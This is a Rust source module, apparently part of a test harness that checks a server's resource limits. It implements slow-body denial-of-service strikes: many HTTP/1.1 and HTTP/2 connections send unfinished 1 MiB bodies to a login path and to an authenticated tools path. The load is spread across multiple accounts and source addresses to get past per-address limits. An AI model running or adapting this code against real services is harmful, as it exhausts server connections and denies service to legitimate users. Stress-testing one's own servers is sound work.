//! Unfinished bodies: of strangers, and of one or several accounts.

use std::sync::Arc;

use tokio::task::JoinSet;

use super::hold::hold;
use super::streams::{Asked, unfinished};
use crate::client::head;
use crate::target::Target;
use crate::{Future, Strike};

/// Connections of strangers, and streams on each.
const CONNECTIONS: u16 = 60;
const STREAMS: usize = 100;
/// Announced length of a body.
const BYTES: usize = 1 << 20;
/// All of a body but its last sixteenth.
const PARTS: [&[u8]; 15] = [&[b' '; BYTES / 16]; 15];
/// An account's bodies over HTTP/1.1, and its HTTP/2 connections, which carry as many again.
const HELD: u16 = 500;
const HELD_STREAMS: u16 = 5;
/// Addresses that share the account's connections: one address may not open all of them.
const HOLDERS: u16 = 8;

/// Unfinished logins from one address.
pub fn of_one_address(target: Arc<Target>) -> Future<Result<Strike, String>> {
    logins(target, |_| 1)
}

/// Unfinished logins from as many addresses as there are connections.
pub fn of_many_addresses(target: Arc<Target>) -> Future<Result<Strike, String>> {
    logins(target, |connection| 1_000 + connection)
}

fn logins(target: Arc<Target>, from: fn(u16) -> u16) -> Future<Result<Strike, String>> {
    Box::pin(async move {
        Ok(Box::pin(async move {
            let mut tasks = JoinSet::new();
            for connection in 0..CONNECTIONS {
                let (to, from) = (target.address, target.stranger(from(connection)));
                let asked = Asked { path: "/user/login", token: "", bytes: BYTES };
                tasks.spawn(unfinished(to, from, asked, STREAMS));
            }
            while tasks.join_next().await.is_some() {}
        }) as Strike)
    })
}

/// Unfinished bodies of one account.
pub fn of_a_key(target: Arc<Target>) -> Future<Result<Strike, String>> {
    of_keys(target, 1, HELD)
}

/// Unfinished bodies of accounts that together could hold the whole budget if each held its share.
pub fn of_four_keys(target: Arc<Target>) -> Future<Result<Strike, String>> {
    of_keys(target, 4, HELD / 2)
}

fn of_keys(target: Arc<Target>, accounts: u16, held: u16) -> Future<Result<Strike, String>> {
    Box::pin(async move {
        let mut keys = Vec::new();
        for _ in 0..accounts {
            keys.push(target.account().await?.1);
        }
        Ok(Box::pin(async move {
            let (to, mut tasks) = (target.address, JoinSet::new());
            for (account, key) in (0..).zip(keys) {
                let from = |connection: u16| target.stranger(1 + account * HOLDERS + connection % HOLDERS);
                for connection in 0..held {
                    let head = head("POST", "/user/tools", &key, "application/json", BYTES);
                    tasks.spawn(hold(to, from(connection), PARTS.to_vec(), head));
                }
                for connection in 0..HELD_STREAMS {
                    let (from, key) = (from(connection), key.clone());
                    tasks.spawn(async move {
                        let asked = Asked { path: "/user/tools", token: &key, bytes: BYTES };
                        unfinished(to, from, asked, STREAMS).await;
                    });
                }
            }
            while tasks.join_next().await.is_some() {}
        }) as Strike)
    })
}
